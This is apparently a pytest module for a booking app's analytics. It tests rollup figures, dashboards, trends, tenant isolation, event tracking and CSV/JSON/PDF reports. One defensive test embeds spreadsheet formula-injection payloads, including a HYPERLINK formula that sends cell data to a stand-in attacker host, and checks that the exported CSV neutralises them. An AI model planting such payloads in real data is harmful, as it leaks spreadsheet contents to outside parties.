"""Analytics: the rollups' and views' figures against a hand-computed data set, the routes,
tenant isolation of every route and view function, event tracking and reports."""

from __future__ import annotations

import csv
import io
import json
import uuid
from collections.abc import AsyncIterator
from datetime import datetime, timedelta
from typing import Any

import httpx
import psycopg
import pytest

from slotease.analytics.reports import render
from slotease.config import Settings
from slotease.db.database import Database
from slotease.kit import crypto
from slotease.ops import maintenance
from tests.analytics.arrange import (
    DAY_FIGURES,
    ZONE,
    Tenants,
    arrange,
    generated_report,
    service_database,
    wait_ready,
)
from tests.auth.support import assert_problem, issue_api_key
from tests.db.acting import ANONYMOUS, acting_as, as_user
from tests.factories import Owner, make_user, seal
from tests.notifications.support import run_jobs, worker_app

pytestmark = pytest.mark.anyio

VIEWS = (
    "service_performance",
    "organization_stats",
    "user_activity_summary",
)
FUNCTIONS = (
    "analytics_service_performance(%(org)s)",
    "analytics_organization_stats(%(org)s)",
    "analytics_user_activity(%(org)s)",
)


@pytest.fixture(scope="module")
def tenants(owner_conninfo: str) -> Tenants:
    with psycopg.connect(owner_conninfo, autocommit=True) as conn:
        return arrange(conn)


@pytest.fixture
async def db(settings: Settings) -> AsyncIterator[Database]:
    async for database in service_database(settings):
        yield database


@pytest.fixture
async def refreshed(tenants: Tenants, db: Database) -> Tenants:
    await maintenance.refresh_views(db)
    return tenants


def base(t: Tenants) -> str:
    return f"/v1/analytics/organization/{t.org_a}"


async def test_the_rollups_and_views_hold_the_hand_computed_figures(
    refreshed: Tenants, app_conninfo: str
) -> None:
    t = refreshed
    async with acting_as(app_conninfo, as_user(t.admin_a.id)) as conn:
        cursor = await conn.execute(
            "select service_id, total, completed, cancelled, no_show, booked_minutes::float8,"
            " ratings, rating_sum from public.analytics_daily_service"
            " where organization_id = %s and day = %s",
            (t.org_a, t.day),
        )
        daily = {row[0]: row[1:] for row in await cursor.fetchall()}
        cursor = await conn.execute(
            "select tickets, served, no_show, waits, wait_minutes_sum::float8, services,"
            " service_minutes_sum::float8, (estimate_error_sum / estimates)::float8"
            " from public.analytics_daily_queue where organization_id = %s and day = %s",
            (t.org_a, t.day),
        )
        queues = await cursor.fetchall()
        cursor = await conn.execute(
            "select service_id, total, completed, cancelled, no_show, ratings, rating_avg"
            " from app.analytics_service_performance(%s)",
            (t.org_a,),
        )
        services = {row[0]: row[1:] for row in await cursor.fetchall()}
        cursor = await conn.execute(
            "select members, active_services, active_queues, appointments_total, customers,"
            " tickets_total from app.analytics_organization_stats(%s)",
            (t.org_a,),
        )
        stats = await cursor.fetchall()
        cursor = await conn.execute(
            "select user_id, events from app.analytics_user_activity(%s)", (t.org_a,)
        )
        activity = dict(await cursor.fetchall())
    assert daily == {
        t.consult: (4, 2, 1, 1, 90.0, 2, 6),
        t.xray: (1, 1, 0, 0, 60.0, 1, 5),
    }
    assert queues == [(3, 2, 1, 2, 30.0, 2, 10.0, 3.5)]
    assert services == {
        t.consult: (4, 2, 1, 1, 2, 3.0),
        t.xray: (1, 1, 0, 0, 1, 5.0),
    }
    assert stats == [(2, 2, 1, 5, 1, 3)]
    # The staff member: 5 bookings, 3 check-ins, 3 starts, 3 completions, 1 no-show, and on
    # tickets 3 joins, 2 calls, 2 starts, 2 serves, 1 no-show; the customer: 1 cancellation
    # and 3 ratings.
    assert activity == {t.staff_a.id: 5 + 3 + 3 + 3 + 1 + 3 + 2 + 2 + 2 + 1, t.customer.id: 4}


async def test_a_past_day_dashboard_comes_from_the_views(
    refreshed: Tenants, client: httpx.AsyncClient
) -> None:
    t = refreshed
    for user in (t.admin_a, t.staff_a):
        response = await client.get(
            f"{base(t)}/dashboard", params={"date": t.day.isoformat()}, headers=user.headers
        )
        assert response.status_code == 200, response.text
        assert response.json() == {"date": t.day.isoformat(), **DAY_FIGURES}


async def test_today_is_live(tenants: Tenants, owner: Owner, client: httpx.AsyncClient) -> None:
    t = tenants
    today = datetime.now(ZONE).date()
    starts = datetime.combine(today, datetime.min.time(), tzinfo=ZONE) + timedelta(hours=23)

    def arrange_today() -> None:
        owner.execute(
            "insert into public.appointments"
            " (organization_id, service_id, customer_id, starts_at, ends_at)"
            " values (%s, %s, %s, %s, %s)",
            (t.org_a, t.consult, t.customer.id, starts, starts + timedelta(minutes=30)),
        )
        owner.execute(
            "insert into public.tickets (organization_id, queue_id, service_date, number)"
            " values (%s, %s, %s, 1)",
            (t.org_a, t.queue, today),
        )

    with owner.transaction(force_rollback=True):
        arrange_today()
        # Not committed: a live answer must read the tables as they are now.
        response = await client.get(f"{base(t)}/dashboard", headers=t.staff_a.headers)
    assert response.status_code == 200
    body = response.json()
    assert (body["date"], body["source"]) == (today.isoformat(), "live")
    assert (body["appointments_total"], body["waiting_now"]) == (0, 0)

    with owner.transaction():
        arrange_today()
    body = (await client.get(f"{base(t)}/dashboard", headers=t.staff_a.headers)).json()
    offered = 2580 if today.weekday() < 5 else 0
    assert body == {
        "date": today.isoformat(),
        "appointments_total": 1,
        "completed": 0,
        "cancelled": 0,
        "no_shows": 0,
        "waiting_now": 1,
        "avg_wait_minutes": None,
        "avg_service_minutes": None,
        "utilization": round(30 / offered, 4) if offered else None,
        "rating_avg": None,
        "source": "live",
    }


async def test_performance_per_service_and_staff(
    refreshed: Tenants, client: httpx.AsyncClient
) -> None:
    t = refreshed
    today = datetime.now(ZONE).date()
    response = await client.get(
        f"{base(t)}/performance",
        params={"from": t.day.isoformat(), "to": today.isoformat()},
        headers=t.admin_a.headers,
    )
    assert response.status_code == 200, response.text
    body = response.json()
    assert (body["from"], body["to"]) == (t.day.isoformat(), today.isoformat())
    past = {s["name"]: s for s in body["services"]}
    assert past["X-ray"] == {
        "service_id": str(t.xray),
        "name": "X-ray",
        "appointments": 1,
        "completed": 1,
        "cancelled": 0,
        "no_shows": 0,
        "booked_minutes": 60.0,
        "rating_avg": 5.0,
    }
    assert past["Consultation"]["completed"] == 2
    # The events were recorded as the arrangement ran (today), with the staff member as actor;
    # the customer's cancellation is not staff work.
    assert body["staff"] == [
        {
            "user_id": str(t.staff_a.id),
            "full_name": "Sam Staff",
            "appointments_checked_in": 3,
            "appointments_completed": 3,
            "appointments_no_show": 1,
            "tickets_called": 2,
            "tickets_served": 2,
            "tickets_no_show": 1,
            "avg_service_minutes": 0.0,
        }
    ]


async def test_trends_series_and_forecast(refreshed: Tenants, client: httpx.AsyncClient) -> None:
    t = refreshed
    first = t.day - timedelta(days=20)
    response = await client.get(
        f"{base(t)}/trends",
        params={
            "metric": "completed",
            "from": first.isoformat(),
            "to": t.day.isoformat(),
            "forecast_days": 7,
        },
        headers=t.admin_a.headers,
    )
    assert response.status_code == 200, response.text
    body = response.json()
    assert body["metric"] == "completed"
    assert len(body["series"]) == 21
    assert body["series"][-1] == {"date": t.day.isoformat(), "value": 3.0}
    assert sum(p["value"] for p in body["series"]) == 3.0
    assert [p["date"] for p in body["forecast"]] == [
        (t.day + timedelta(days=i)).isoformat() for i in range(1, 8)
    ]
    assert all(0 <= p["lower"] <= p["value"] <= p["upper"] for p in body["forecast"])

    wait = await client.get(
        f"{base(t)}/trends",
        params={"metric": "avg_wait_minutes", "from": t.day.isoformat(), "to": t.day.isoformat()},
        headers=t.admin_a.headers,
    )
    assert wait.json()["series"] == [{"date": t.day.isoformat(), "value": 15.0}]
    for params in (
        {"metric": "revenue", "from": "2026-01-01", "to": "2026-01-02"},
        {"metric": "completed", "from": "2026-01-02", "to": "2026-01-01"},
        {"metric": "completed", "from": "2024-01-01", "to": "2026-01-01"},
        {"metric": "completed", "from": "2026-01-01", "to": "2026-01-02", "forecast_days": 99},
    ):
        response = await client.get(f"{base(t)}/trends", params=params, headers=t.admin_a.headers)
        assert_problem(response, 422)


async def test_analytics_routes_are_tenant_isolated(
    refreshed: Tenants, owner: Owner, client: httpx.AsyncClient
) -> None:
    t = refreshed
    stranger = make_user(owner)
    day = {"date": t.day.isoformat()}
    span = {"from": t.day.isoformat(), "to": t.day.isoformat()}
    reads = {
        "dashboard": day,
        "performance": span,
        "trends": {**span, "metric": "appointments"},
    }
    for name, params in reads.items():
        url = f"{base(t)}/{name}"
        assert_problem(await client.get(url, params=params), 401)
        for outsider in (t.admin_b, t.customer, stranger):
            assert_problem(await client.get(url, params=params, headers=outsider.headers), 404)
        response = await client.get(url, params=params, headers=t.staff_a.headers)
        if name == "dashboard":
            # Staff read their own organization's figures, not another's and not empty ones.
            assert response.status_code == 200, response.text
            assert response.json() == {"date": t.day.isoformat(), **DAY_FIGURES}
        else:
            assert_problem(response, 403)
    report = {"organization_id": str(t.org_a), "kind": "appointments", "format": "csv", **span}
    assert_problem(await client.post("/v1/analytics/report", json=report), 401)
    assert_problem(
        await client.post("/v1/analytics/report", json=report, headers=t.admin_b.headers), 404
    )
    assert_problem(
        await client.post("/v1/analytics/report", json=report, headers=t.staff_a.headers), 403
    )


@pytest.mark.parametrize("function", FUNCTIONS)
async def test_view_functions_answer_nothing_outside_the_organization(
    refreshed: Tenants, app_conninfo: str, owner: Owner, function: str
) -> None:
    t = refreshed
    stranger = make_user(owner)
    seen: dict[str, int] = {}
    for name, identity in (
        ("admin_a", as_user(t.admin_a.id)),
        ("admin_b", as_user(t.admin_b.id)),
        ("customer", as_user(t.customer.id)),
        ("stranger", as_user(stranger.id)),
    ):
        async with acting_as(app_conninfo, identity) as conn:
            cursor = await conn.execute(f"select count(*) from app.{function}", {"org": t.org_a})
            row = await cursor.fetchone()
            assert row is not None
            seen[name] = row[0]
    assert seen["admin_a"] > 0
    assert {k: v for k, v in seen.items() if k != "admin_a"} == {
        "admin_b": 0,
        "customer": 0,
        "stranger": 0,
    }
    async with acting_as(app_conninfo, ANONYMOUS) as conn:
        with pytest.raises(psycopg.errors.InsufficientPrivilege):
            await conn.execute(f"select count(*) from app.{function}", {"org": t.org_a})


async def test_staff_get_daily_figures_but_not_the_admin_views(
    refreshed: Tenants, app_conninfo: str
) -> None:
    t = refreshed
    counts = []
    async with acting_as(app_conninfo, as_user(t.staff_a.id)) as conn:
        for source in (
            "public.analytics_daily_service where organization_id = %(org)s",
            "public.analytics_daily_queue where organization_id = %(org)s",
            *(f"app.{function}" for function in FUNCTIONS),
        ):
            cursor = await conn.execute(f"select count(*) from {source}", {"org": t.org_a})
            row = await cursor.fetchone()
            assert row is not None
            counts.append(row[0] > 0)
    assert counts == [True, True, False, False, False]


@pytest.mark.parametrize("view", VIEWS)
async def test_the_views_themselves_are_closed_to_the_api_roles(
    refreshed: Tenants, app_conninfo: str, view: str
) -> None:
    for identity in (ANONYMOUS, as_user(refreshed.admin_a.id)):
        async with acting_as(app_conninfo, identity) as conn:
            with pytest.raises(psycopg.errors.InsufficientPrivilege):
                await conn.execute(f"select * from app.{view} limit 1")


# Event tracking ------------------------------------------------------------------------------


def _events(owner: Owner, event_type: str) -> list[tuple[Any, ...]]:
    return owner.execute(
        "select organization_id, user_id, properties from public.analytics_events"
        " where event_type = %s order by occurred_at",
        (event_type,),
    ).fetchall()


async def test_signed_in_users_and_api_keys_record_events(
    tenants: Tenants, owner: Owner, client: httpx.AsyncClient
) -> None:
    t = tenants
    response = await client.post(
        "/v1/analytics/event",
        json={"event_type": "page.view", "properties": {"p": 1}},
        headers=t.customer.headers,
    )
    assert response.status_code == 202
    response = await client.post(
        "/v1/analytics/event",
        json={"event_type": "desk.open", "organization_id": str(t.org_a)},
        headers=t.staff_a.headers,
    )
    assert response.status_code == 202
    key = (await issue_api_key(client, t.org_a, t.admin_a, role="staff"))["key"]
    kiosk = {"apikey": key}
    response = await client.post(
        "/v1/analytics/event", json={"event_type": "kiosk.touch"}, headers=kiosk
    )
    assert response.status_code == 202
    assert _events(owner, "page.view") == [(None, t.customer.id, {"p": 1})]
    assert _events(owner, "desk.open") == [(t.org_a, t.staff_a.id, {})]
    assert _events(owner, "kiosk.touch") == [(t.org_a, None, {})]
    assert_problem(await client.post("/v1/analytics/event", json={"event_type": "x"}), 401)


async def test_events_for_an_organization_need_its_membership(
    tenants: Tenants, owner: Owner, client: httpx.AsyncClient
) -> None:
    t = tenants
    key = (await issue_api_key(client, t.org_a, t.admin_a, role="admin"))["key"]
    before = owner.execute("select count(*) from public.analytics_events").fetchone()
    for headers, org in (
        (t.customer.headers, t.org_a),
        (t.admin_b.headers, t.org_a),
        ({"apikey": key}, t.org_b),
        (t.admin_a.headers, uuid.uuid4()),
    ):
        body = {"event_type": "page.view", "organization_id": str(org)}
        response = await client.post("/v1/analytics/event", json=body, headers=headers)
        assert_problem(response, 404)
    assert owner.execute("select count(*) from public.analytics_events").fetchone() == before


@pytest.mark.parametrize(
    "event_type",
    ["appointment.completed", "ticket.served", "queue.paused", "notification.sent"],
)
async def test_the_domain_event_types_are_recorded_by_the_system_only(
    tenants: Tenants, owner: Owner, client: httpx.AsyncClient, event_type: str
) -> None:
    t = tenants
    key = (await issue_api_key(client, t.org_a, t.admin_a, role="staff"))["key"]
    recorded = _events(owner, event_type)
    for headers, org in (
        (t.staff_a.headers, t.org_a),
        (t.admin_a.headers, t.org_a),
        ({"apikey": key}, None),
        (t.customer.headers, None),
    ):
        body = {"event_type": event_type, "organization_id": org and str(org)}
        response = await client.post("/v1/analytics/event", json=body, headers=headers)
        assert_problem(response, 403)
    assert _events(owner, event_type) == recorded


@pytest.mark.parametrize(
    "body",
    [
        {"event_type": "Page View"},
        {"event_type": "9lives"},
        {"event_type": "a" * 65},
        {"event_type": "page.view", "properties": {f"k{i}": i for i in range(51)}},
        {"event_type": "page.view", "properties": {"blob": "x" * 8200}},
        {"event_type": "page.view", "properties": []},
    ],
)
async def test_invalid_events_are_refused_and_not_recorded(
    tenants: Tenants, owner: Owner, client: httpx.AsyncClient, body: dict[str, Any]
) -> None:
    before = owner.execute("select count(*) from public.analytics_events").fetchone()
    response = await client.post("/v1/analytics/event", json=body, headers=tenants.customer.headers)
    assert_problem(response, 422)
    assert owner.execute("select count(*) from public.analytics_events").fetchone() == before


async def test_domain_events_follow_the_transaction(tenants: Tenants, owner: Owner) -> None:
    t = tenants
    starts = datetime.now(ZONE).replace(hour=10, minute=0, second=0, microsecond=0)
    starts += timedelta(days=3)
    with owner.transaction(force_rollback=True):
        row = owner.execute(
            "insert into public.appointments"
            " (organization_id, service_id, customer_id, starts_at, ends_at)"
            " values (%s, %s, %s, %s, %s) returning id",
            (t.org_a, t.consult, t.customer.id, starts, starts + timedelta(minutes=30)),
        ).fetchone()
        assert row is not None
        # Moved to another month's partition: still one booking, then the cancellation.
        owner.execute(
            "update public.appointments set starts_at = starts_at + interval '40 days',"
            " ends_at = ends_at + interval '40 days' where id = %s",
            (row[0],),
        )
        owner.execute(
            "update public.appointments set status = 'cancelled' where id = %s", (row[0],)
        )
        recorded = owner.execute(
            "select event_type from public.analytics_events"
            " where properties ->> 'appointment_id' = %s order by occurred_at, event_type",
            (str(row[0]),),
        ).fetchall()
        assert recorded == [("appointment.booked",), ("appointment.cancelled",)]
    # Rolled back with the change.
    assert owner.execute(
        "select count(*) from public.analytics_events where properties ->> 'appointment_id' = %s",
        (str(row[0]),),
    ).fetchone() == (0,)


# Reports -------------------------------------------------------------------------------------


@pytest.mark.parametrize("report_format", ["csv", "json", "pdf"])
async def test_reports_are_generated_and_downloaded(
    refreshed: Tenants, client: httpx.AsyncClient, settings: Settings, report_format: str
) -> None:
    t = refreshed
    body = {
        "organization_id": str(t.org_a),
        "kind": "appointments",
        "from": t.day.isoformat(),
        "to": t.day.isoformat(),
        "format": report_format,
    }
    response = await client.post("/v1/analytics/report", json=body, headers=t.admin_a.headers)
    assert response.status_code == 202, response.text
    accepted = response.json()
    assert accepted["status"] == "pending"
    report_id = accepted["report_id"]
    # The request enqueued the generation with the report; a worker run fills it in.
    async with worker_app(settings) as (app, _):
        await run_jobs(app)
    report = await wait_ready(client, report_id, t.admin_a.headers)
    assert report["status"] == "ready"
    assert report["download_url"] == f"/v1/analytics/report/{report_id}/download"
    assert (report["from"], report["to"]) == (t.day.isoformat(), t.day.isoformat())

    download = await client.get(report["download_url"], headers=t.admin_a.headers)
    assert download.status_code == 200
    if report_format == "csv":
        lines = download.text.splitlines()
        assert lines[0] == "day,service,total,completed,cancelled,no_show,booked_minutes,rating_avg"
        assert f"{t.day.isoformat()},Consultation,4,2,1,1,90.0,3.0" in lines
    elif report_format == "json":
        rows = json.loads(download.content)["rows"]
        assert {r["service"]: r["total"] for r in rows} == {"Consultation": 4, "X-ray": 1}
    else:
        assert download.headers["content-type"] == "application/pdf"
        assert download.content.startswith(b"%PDF")

    for outsider in (t.admin_b, t.staff_a):
        for url in (f"/v1/analytics/report/{report_id}", report["download_url"]):
            assert_problem(await client.get(url, headers=outsider.headers), 404)


async def test_a_csv_report_runs_no_formula_from_a_comment(
    tenants: Tenants, owner: Owner, client: httpx.AsyncClient, settings: Settings
) -> None:
    t = tenants
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    comments = {formula: "'" + formula, "-2+3": "'-2+3", "@SUM(A1)": "'@SUM(A1)"}
    rated = owner.execute(
        "select id, appointment_id from public.feedback where organization_id = %s order by id",
        (t.org_a,),
    ).fetchall()
    assert len(rated) >= len(comments)
    try:
        for (feedback_id, appointment_id), comment in zip(rated, comments, strict=False):
            owner.execute(
                "update public.feedback set comment = %s where id = %s",
                (seal(crypto.COMMENT, appointment_id, comment), feedback_id),
            )
        body = {
            "organization_id": str(t.org_a),
            "kind": "feedback",
            "from": t.day.isoformat(),
            "to": t.day.isoformat(),
            "format": "csv",
        }
        report = await generated_report(client, settings, t.admin_a.headers, body)
        download = await client.get(report["download_url"], headers=t.admin_a.headers)
    finally:
        owner.execute(
            "update public.feedback set comment = null where organization_id = %s", (t.org_a,)
        )
    cells = list(csv.DictReader(io.StringIO(download.text)))
    assert sorted(c["comment"] for c in cells if c["comment"]) == sorted(comments.values())
    assert {c["rating"] for c in cells} <= set("12345")


def test_numbers_stay_numbers_in_csv() -> None:
    rows: list[dict[str, Any]] = [
        {"day": "2026-12-01", "queue": "-Main", "estimate_error_minutes": -2.5, "served": -1},
        {"day": "2026-12-02", "queue": "\t=1", "estimate_error_minutes": None, "served": 0},
        {"day": "2026-12-03", "queue": "\r=1", "estimate_error_minutes": 1.5, "served": 2},
    ]
    content, _ = render("queues", "csv", "Queues", list(rows[0]), rows)
    assert list(csv.reader(io.StringIO(content.decode()))) == [
        ["day", "queue", "estimate_error_minutes", "served"],
        ["2026-12-01", "'-Main", "-2.5", "-1"],
        ["2026-12-02", "'\t=1", "", "0"],
        ["2026-12-03", "'\r=1", "1.5", "2"],
    ]


async def test_a_report_request_is_validated(tenants: Tenants, client: httpx.AsyncClient) -> None:
    t = tenants
    body = {
        "organization_id": str(t.org_a),
        "kind": "queues",
        "from": "2026-02-01",
        "to": "2026-01-01",
        "format": "csv",
    }
    assert_problem(
        await client.post("/v1/analytics/report", json=body, headers=t.admin_a.headers), 422
    )
    for field, value in (("kind", "revenue"), ("format", "xlsx")):
        bad = body | {"to": "2026-03-01", field: value}
        assert_problem(
            await client.post("/v1/analytics/report", json=bad, headers=t.admin_a.headers), 422
        )
    unknown = f"/v1/analytics/report/{uuid.uuid4()}"
    assert_problem(await client.get(unknown, headers=t.admin_a.headers), 404)
